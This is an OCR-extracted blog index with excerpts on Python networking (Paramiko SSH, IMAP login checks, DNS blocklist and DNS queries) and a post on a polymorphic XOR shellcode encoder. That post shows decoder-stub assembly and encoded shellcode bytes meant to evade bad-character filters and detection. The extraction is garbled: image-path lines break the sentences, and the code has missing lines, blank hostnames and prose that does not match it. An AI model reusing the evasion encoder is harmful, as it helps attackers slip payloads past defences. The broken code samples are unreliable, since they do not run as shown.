SSH Fingerprint and Hostkey with Paramiko in Python

November 24th, 2014

Following on from SSH and SFTP with Paramiko & Python, I recently had the need to gain a remote SSH server’s fingerprint and hostkey for verification purposes. This is achievable throughsetting up a socket, and then applying paramiko.Transport over our established socket. First, we include the various bits and pieces we’ll need:

import socket
import paramiko
import hashlib
import base64

Next, we establish a socket connection ‘mySocket’ to “localhost” on port 22 – our dummy SSH server. We then use paramiko.Transport to gain access to paramiko’s core SSH protocol options on the socket.

mySocket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
mySocket.connect(("localhost", 22))
myTransport = paramiko.Transport(mySocket)

To get the remote hostkey, we call myTransport.get_remote_server_key():
Read the rest of this entry »

SSH and SFTP with Paramiko & Python

November 23rd, 2014

Paramiko is a Python implementation of SSH with a whole range of supported features. To start,let’s look at the most simple example – connecting to a remote SSH server and gathering the output of ls /tmp/

import paramiko

ssh = paramiko.SSHClient()
        ssh.connect('localhost', username='testuser', password='t3st@#test123')
except paramiko.SSHException:
        print "Connection Failed"

stdin,stdout,stderr = ssh.exec_command("ls /etc/")

for line in stdout.readlines():
        print line.strip()

After importing paramiko, we create a new variable ‘ssh’ to hold our SSHClient. ssh.set_missing_host_key_policy automatically adds our server’s host key withoutprompting. For security, this is not a good idea in production, and host keys should be added manually. Should a host key change unexpectedly, it could indicate that the connection has been compromised and is being diverted elsewhere.Next, we create 3 variables, stdin, stdout and stderr allowing us to access the respective streams when calling ls /etc/

Finally, for each “\n” terminated line on stdout, we print the line, stripping the trailing “\n” (as print adds one). Finally we close the SSH connection.

Let’s look at another example, where we communicate with stdin.
Read the rest of this entry »

Simple IMAP Account Verification in PythonNovember 22nd, 2014

imaplib is a great library for handling IMAP communication. It supports both plaintext IMAP and IMAP over SSL (IMAPS) with ease. Connecting to an IMAP server is achieved as follows:

import imaplib

host = ""
port = 143
ssl = 0

    if ssl:
        imap = imaplib.IMAP4_SSL(host, port)
        imap = imaplib.IMAP4(host, port)
    welcomeMsg = imap.welcome
    print "IMAP Banner: %s" %(welcomeMsg)
    print "Connection Failed"This results in the following output: “IMAP Banner: * OK [CAPABILITY IMAP4rev1 UIDPLUS CHILDREN NAMESPACE THREAD=ORDEREDSUBJECT THREAD=REFERENCES SORT QUOTA IDLE ACL ACL2=UNION STARTTLS] Courier-IMAP ready. Copyright 1998-2011 Double Precision, Inc. See COPYING for distribution information.” Now, to log in:


    loginMsg = imap.login(username, password)
    print "Login Message: %s" %(loginMsg[1])
    print "Login Failed"

With acceptable credentials, the response is: “Login Message: [‘LOGIN Ok.’]”. Lastly, to print a list of all mailboxes in the account:

    mBoxes = imap.list()
    for mBox in mBoxes[1]:
        print mBox
    print "Couldn't get Mail Boxes"

Read the rest of this entry »

DNS Black List / RBL Checking in Python

November 22nd, 2014

Following on from performing basic DNS Lookups in Python, it’s relatively trivial to begin testing DNS Block Lists/Real Time Black Lists for blocked mail server IPaddresses. To assist in preventing spam, a number of public and private RBLs are available. These track the IP addresses of mail servers that are known to produce spam, thus allowing recipient mail servers to deny delivery from known spammers.

RBLs operate over DNS. In order to test a RBL, a DNS query is made. As an example, is a popular RBL. If I wanted to test IP address against the blocklist, I would reverse the octets in the IP address and then append ‘’, i.e. I then perform an ‘A’ record lookup on said host:

root@w:~/tmp# host -t a
Host not found: 3(NXDOMAIN)

Excellent. IP was not found in NXDOMAIN is returned.

Now, to take a known spammer’s IP:
Read the rest of this entry »

Performing DNS Queries in Python

November 21st, 2014

dnspython provides a detailed interface into DNS. In its simplest form, it’s possible to perform queries in only a couple of lines of code. Here’s a commented example:

import dns.resolver #import the module
myResolver = dns.resolver.Resolver() #create a new instance named 'myResolver'myAnswers = myResolver.query("", "A") #Lookup the 'A' record(s) for
for rdata in myAnswers: #for each response
    print rdata #print the data

The results in my case are:

Read the rest of this entry »

Python Cascading XOR Polymorphic Shellcode Generator

April 11th, 2013

I’ve beenworking on a simple python utility to encode and wrap existing shellcode. The shellcode is XOR’d with a random seed byte each time, and then the shellcode is XOR’d with the previous byte. The stub itself is vaguely polymorphic. The stub itself is very smallalthough on each run, it will reorder instructions where possible, use different registers, and add some random nop sequences. The encoder itself supports shellcodewith or without null bytes and also supports a list of ‘bad characters’ that are not allowed to appear in the finished result wherever possible. That part isn’t fool proof, and certain characters such as ‘\xeb’ are unavoidable. This could be improved a lot however. I also know the Python code isn’t great, but it is functional. As you’ll see from looking through the code, I never got round to learning about Python data types and so there’s a lot of hackery and kludgery. In any case, the purpose was just to develop a basic functional PoC from scratch.

If the entered shellcode contains nulls, we’ll use a slightly different version of the decoder stub. If we DO have nulls, our basic stub is:

jmp short getpc
pop edi
inc edi
mov bl, [edi]
xor [edi-1], bl
cmp byte[edi+1], 0xXX
jnz decoder
jmp short shellcode
call start_decoder
shellcode: db0xf0,0x19,0x0c,0x0c,0x0c,0x0c,0x55,0x64,0xa4,0x95,0x4e,0x7f,0xad,0x1d,0x19,0xaa,0xab,0x19,0x14,0xd9,0x59,0xe9,0xe8,0x5b,0x5a,0x97,0x17,0xff,0x19,0xe6,0x19,0xe6,0xae,0xcb,0xa7,0xcb,0xa4,0x84,0xd3,0xbc,0xce,0xa2,0xc6,0xe7,0xed,0xXX,

There will be various transforms made to this code, however the main point to note is that we ‘cmp’ the byte with our random stop bit (0xXX) and you’ll see that tagged on to the end of the shellcode also. If we have no nulls, then \x00 is going to be our definer for the last character, and so we can shorten the shellcode slightly:

global _start
section prog write exec
jmp short getpc
pop ebp
mov dl, [ebp+1]
inc ebp
xor [ebp-1], dl
jnedecoder
jmp short shellcode
call start_decoder
shellcode: db0x64,0x55,0x8e,0x79,0x9a,0x2a,0x4c,0x1f,0xe1,0x22,0x71,0x1b,0x19,0x90,0x71,0xbc,0x3c,0xb5,0x72,0x18,0x7e,0x26,0x7d,0x23,0x45,0x2d,0x20,0xd0,0xb6,0xe5,0x6c,0x8d,0xe7,0xf7,0xa6,0xf1,0x78,0x99,0x54,0xd4,0xbe,0xd8,0x80,0x81,0x5a,0x30,0x31,0x66,0xef,0x0e,0xc3,0x43,0x29,0x4f,0x17,0x54,0x65,0xb7,0xe5,0xb7,0xe0,0x69,0x88,0x45,0xc5,0x56,0x67,0xae,0x1f,0x1d,0xad,0x92,0x5f,0xdf,0x96,0xef,0x16,0x27,0xe7,0xb7,0xdf,0xf0,0xdf,0xac,0xc4,0xac,0x83,0xe1,0x88,0xe6,0x6f,0x8c,0xdc,0x55,0xb7,0xe4,0x6d,0x8c,0x3c,0x37,0xfa,0x7a,0x7a,In this case, we have the stopbit twice – 0x7a,0x7a which will xor to 0x00 allowing our ‘jne decoder’ to evaluate to false and continue into the shellcode.

The nop generator function is commented out howeverthis can be expanded as neededto pad out the shellcode.

Here’s the full encoder:

Read the rest of this entry »